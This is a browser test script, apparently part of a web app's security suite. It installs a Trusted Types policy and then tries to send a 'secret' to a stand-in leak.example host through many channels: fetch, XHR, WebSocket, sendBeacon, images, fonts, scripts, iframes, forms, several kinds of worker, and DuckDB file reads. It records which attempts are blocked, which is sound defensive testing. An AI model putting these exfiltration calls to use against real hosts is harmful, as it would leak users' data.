import { installPolicy } from '../../../src/app/trusted-types.ts'

const host = (way, scheme = 'http') => `${scheme}://${way}.leak.example/secret`
const element = (tag, attributes) =>
  document.head.append(Object.assign(document.createElement(tag), attributes))

const fromPage = {
  'page-fetch': (way) => fetch(host(way), { mode: 'no-cors' }),
  'page-xhr': (way) => {
    const request = new XMLHttpRequest()
    request.open('POST', host(way))
    request.send('secret')
  },
  'page-websocket': (way) => new WebSocket(host(way, 'ws')),
  'page-eventsource': (way) => new EventSource(host(way)),
  'page-beacon': (way) => navigator.sendBeacon(host(way), 'secret'),
  'page-image': (way) => {
    new Image().src = host(way)
  },
  'page-stylesheet': (way) => element('link', { rel: 'stylesheet', href: host(way) }),
  'page-font': (way) => new FontFace(way, `url(${host(way)})`).load(),
  'page-script': (way) => element('script', { src: host(way) }),
  'page-import': (way) => import(host(way)),
  'page-frame': (way) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: host(way) }))
  },
  'page-media': (way) => {
    new Audio().src = host(way)
  },
  'page-form': (way) => {
    const target = Object.assign(document.createElement('iframe'), { name: way })
    const form = Object.assign(document.createElement('form'), { action: host(way), target: way })
    document.body.append(target, form)
    form.submit()
  },
  'blob-worker-fetch': (way) => {
    const script = new Blob([`fetch('${host(way)}', { mode: 'no-cors' })`])
    new Worker(URL.createObjectURL(script))
  },
  'service-worker-fetch': () => navigator.serviceWorker.register('./sw.js'),
}

const fromWorker = ['fetch', 'xhr', 'websocket', 'importscripts', 'import', 'nested']

function inWorker(way) {
  return new Promise((resolve, reject) => {
    const worker = new Worker('./assets/workers/leaks.worker.js', { name: way })
    worker.onmessage = ({ data }) => resolve(data)
    worker.onerror = ({ message }) => reject(new Error(message))
    worker.postMessage(host(way.replace('worker-nested', 'nested-fetch')))
  })
}

async function inDuckDB(sql) {
  const worker = new Worker('./assets/workers/duckdb.js')
  const ask = (type, data) =>
    new Promise((resolve, reject) => {
      worker.onmessage = ({ data: answer }) => {
        if (answer.type === 'ERROR') reject(new Error(answer.data.message))
        else if (!/LOG|PROGRESS/.test(answer.type)) resolve(answer.data)
      }
      worker.postMessage({ messageId: 1, type, data })
    })
  await ask('INSTANTIATE', [new URL('./assets/workers/duckdb.wasm', document.baseURI).href, null])
  await ask('OPEN', {})
  return ask('RUN_QUERY', [await ask('CONNECT', null), sql])
}

async function attempt(act) {
  try {
    return String((await act()) ?? 'done')
  } catch (error) {
    return String(error)
  }
}

installPolicy()
const outcomes = {}
for (const [way, act] of Object.entries(fromPage)) {
  outcomes[way] = await attempt(() =>
    Promise.race([act(way), new Promise((go) => setTimeout(go, 300))]),
  )
}
for (const name of fromWorker) {
  const way = `worker-${name}`
  outcomes[way] = await attempt(() => inWorker(way))
}
outcomes['duckdb-file'] = await attempt(() =>
  inDuckDB(`FROM read_csv('${host('duckdb-file', 'https')}.csv')`),
)
outcomes['duckdb-extension'] = await attempt(() => inDuckDB("SELECT to_json('secret')"))
document.documentElement.dataset.outcomes = JSON.stringify(outcomes)
